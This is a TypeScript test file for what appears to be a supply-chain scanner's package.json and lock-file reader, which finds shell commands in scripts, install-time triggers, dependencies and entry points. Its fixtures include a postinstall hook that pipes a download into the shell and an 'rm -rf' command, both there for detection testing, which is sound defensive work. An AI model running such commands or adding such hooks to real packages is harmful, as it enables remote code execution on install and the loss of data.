import { describe, expect, test } from "vitest";
import { readJson } from "../../../src/read/manifest/read-json.ts";
import { place, tell } from "./tell.ts";

const read = (value: unknown, path = "package.json") => tell(readJson, path, JSON.stringify(value, null, 2), "json");

describe("scripts", () => {
  const text = `{
  "name": "x",
  "scripts": {
    "postinstall": "node setup.js && curl -s https://get.example/x | sh",
    "test": "vitest",
    "quoted": "echo \\"a\\" && rm -rf build"
  }
}`;
  const told = tell(readJson, "package.json", text, "json");

  test("each goes to the shell reader with its field and place", () => {
    expect(told.embedded.map((child) => [child.field, child.language])).toEqual([
      ["scripts.postinstall", "shell"],
      ["scripts.test", "shell"],
      ["scripts.quoted", "shell"],
    ]);
    expect(told.embedded[0]?.placeOf("curl")).toBe(place(text, "curl"));
  });

  test("behind an escape the place is still exact", () => {
    expect(told.embedded[2]?.text).toBe('echo "a" && rm -rf build');
    expect(told.embedded[2]?.placeOf("rm -rf")).toBe(place(text, "rm -rf"));
  });

  test("npm runs only some of them by itself", () => {
    expect(told.embedded.map((child) => child.context.trigger)).toEqual(["install", "call", "call"]);
  });

  test.each(["preinstall", "install", "postinstall", "prepare", "prepublish"])("%s runs on install", (name) => {
    expect(read({ scripts: { [name]: "node x.js" } }).embedded[0]?.context.trigger).toBe("install");
  });

  test.each(["preinstall-check", "prepack", "prepublishOnly", "Postinstall"])("%s does not", (name) => {
    expect(read({ scripts: { [name]: "node x.js" } }).embedded[0]?.context.trigger).toBe("call");
  });

  test("a key given twice is read twice: programs differ in which they obey", () => {
    const twice = tell(readJson, "package.json", '{"scripts":{"install":"sh a.sh","install":"sh b.sh"}}', "json");
    expect(twice.in("shell")).toEqual(["sh a.sh", "sh b.sh"]);
  });
});

describe("dependencies", () => {
  test("of all kinds, with the line that names them", () => {
    const told = read({
      dependencies: { a: "^1" },
      devDependencies: { b: "2" },
      optionalDependencies: { c: "3" },
      peerDependencies: { "@s/d": "*" },
    });
    expect(told.of("dependency").map(({ name, requested, scope, at }) => [name, requested, scope, at.line])).toEqual([
      ["a", "^1", "runtime", 3],
      ["b", "2", "dev", 6],
      ["c", "3", "optional", 9],
      ["@s/d", "*", "peer", 12],
    ]);
    expect(told.of("dependency")[0]?.snippet).toBe('"a": "^1"');
  });

  test("a nested override counts", () => {
    expect(read({ overrides: { a: { b: "1.0.0" } } }).of("dependency")[0]).toMatchObject({
      name: "b",
      requested: "1.0.0",
    });
  });

  test("no other object of names and versions does", () => {
    expect(
      read({ engines: { node: ">=20" }, peerDependenciesMeta: { a: { optional: true } } }).of("dependency"),
    ).toEqual([]);
  });
});

describe("what is loaded", () => {
  test("entry points are references", () => {
    const told = read({ main: "./main.js", bin: { x: "bin/x.js" }, exports: { ".": { import: "./dist/i.mjs" } } });
    expect(told.of("reference").map(({ how, target }) => [how, target])).toEqual([
      ["import", "./main.js"],
      ["run", "bin/x.js"],
      ["import", "./dist/i.mjs"],
    ]);
  });

  test("the openclaw block declares and names what the host loads", () => {
    const told = read({
      name: "@o/p",
      openclaw: { extensions: ["./index.ts"], setupEntry: "./dist/setup.js", channel: { envVars: ["P_TOKEN"] } },
    });
    expect(told.of("declaration").map(({ block }) => block)).toEqual(["package.json", "package.json#openclaw"]);
    expect(told.of("declaration")[1]?.requires.env).toEqual(["P_TOKEN"]);
    const [extension] = told.of("reference");
    expect(extension).toMatchObject({ how: "run", target: "./index.ts", context: { trigger: "load" } });
  });
});

test("another file with scripts is no package.json, yet its commands are read", () => {
  const told = read({ scripts: { postinstall: "sh x.sh" }, dependencies: { a: "1" } }, "data/other.json");
  expect(told.embedded.map((child) => [child.field, child.context.trigger])).toEqual([
    ["scripts.postinstall", "install"],
  ]);
  expect(told.of("dependency")).toEqual([]);
});

describe("lock files", () => {
  test("version 3", () => {
    const packages = {
      "": { name: "x" },
      "node_modules/a": { version: "1.0.0", dev: true },
      "node_modules/a/node_modules/@s/b": { version: "2.0.0" },
      "packages/own": {},
    };
    const told = read({ lockfileVersion: 3, packages }, "sub/package-lock.json");
    expect(told.of("dependency").map(({ name, resolved, via, scope }) => [name, resolved, via, scope])).toEqual([
      ["a", "1.0.0", "lock", "dev"],
      ["@s/b", "2.0.0", "lock", "runtime"],
    ]);
  });

  test("version 1 nests", () => {
    const told = read(
      { dependencies: { a: { version: "1.0.0", dependencies: { b: { version: "2.0.0" } } } } },
      "npm-shrinkwrap.json",
    );
    expect(told.of("dependency").map(({ name }) => name)).toEqual(["a", "b"]);
  });
});
